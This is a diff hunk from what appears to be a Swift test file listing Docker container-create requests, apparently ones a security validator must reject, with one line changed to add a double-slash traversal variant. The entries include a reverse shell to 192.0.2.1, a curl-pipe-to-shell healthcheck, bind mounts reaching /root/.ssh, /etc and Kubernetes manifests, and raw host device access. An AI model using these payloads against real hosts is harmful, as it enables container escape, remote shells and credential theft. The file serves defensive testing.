@@ -55,7 +55,7 @@ import Testing
         #"{"Image":"ubuntu","Cmd":["sh","-c","sh -i >& /dev/udp/192.0.2.1/53 0>&1"]}"#,
         #"{"Image":"nginx:1","Healthcheck":{"Test":["CMD-SHELL","curl http://192.0.2.1/a|sh"]}}"#,
         #"{"Image":"busybox","Cmd":["sh","-c","cp /k /e/ssh/sshd_config"],"HostConfig":{"Binds":["/etc:/e"]}}"#,
-        #"{"Image":"busybox","HostConfig":{"Mounts":[{"Type":"bind","Source":"/var/../root/.ssh","Target":"/k"}]}}"#,
+        #"{"Image":"busybox","HostConfig":{"Mounts":[{"Type":"bind","Source":"/var/../root//.ssh","Target":"/k"}]}}"#,
         #"{"Image":"busybox","HostConfig":{"Binds":["/var/lib/kubelet/../../../etc/kubernetes/manifests:/m"]}}"#,
         #"{"Image":"alpine","HostConfig":{"Devices":[{"PathOnHost":"/dev/nvme0n1p1","PathInContainer":"/d"}]}}"#,
         #"{"Image":"alpine","HostConfig":{"DeviceCgroupRules":["b 8:* rwm"]}}"#,
